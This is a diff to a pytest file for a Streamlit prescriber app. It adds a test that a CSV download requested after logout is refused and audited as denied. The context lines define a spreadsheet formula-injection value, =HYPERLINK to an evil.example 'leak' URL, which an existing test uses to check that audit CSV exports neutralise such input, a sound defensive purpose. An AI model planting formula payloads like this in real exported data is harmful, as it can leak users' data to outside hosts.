@@ -21,10 +21,12 @@ import pytest
 import streamlit.elements.widgets.button as button_module
 from sqlalchemy import Engine
 
+from db.auth import logout
 from db.engine import write_session
-from db.models import LabOrder
+from db.models import AuthSession, LabOrder
+from db.permissions import PermissionDenied
 from db.queries.caseload import program_today
-from tests.app.conftest import PROJECT_ROOT, audit_rows, log_in, new_app
+from tests.app.conftest import PROJECT_ROOT, audit_rows, log_in, new_app, rows
 from tests.factories import make_patient, make_refill_request, make_team, make_user
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak","click")'
@@ -120,3 +122,18 @@ def test_a_hostile_login_name_reaches_the_audit_csv_neutralised(
     content = media.deferred["deferred-audit_trail.csv"]().decode()
     cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
     assert "'" + HOSTILE_NAME in cells and HOSTILE_NAME not in cells
+
+
+def test_a_download_left_on_the_page_after_logout_discloses_nothing(
+    engine: Engine, program: None, media: RecordingMediaManager
+) -> None:
+    app = log_in(new_app(), "dr_export").switch_page(str(PROJECT_ROOT / "pages/prescriber/caseload.py")).run()
+    assert not app.exception, app.exception
+    build = media.deferred["deferred-caseload.csv"]
+    [login_row] = [row for row in audit_rows(engine, "login") if row.username == "dr_export"]
+    [auth_session] = rows(engine, AuthSession, AuthSession.user_id == login_row.user_id)
+    logout(auth_session.id)
+
+    with pytest.raises(PermissionDenied, match="session has ended"):
+        build()  # the browser asks for the file after the user logged out
+    assert [row.outcome for row in audit_rows(engine, "export")] == ["denied"]
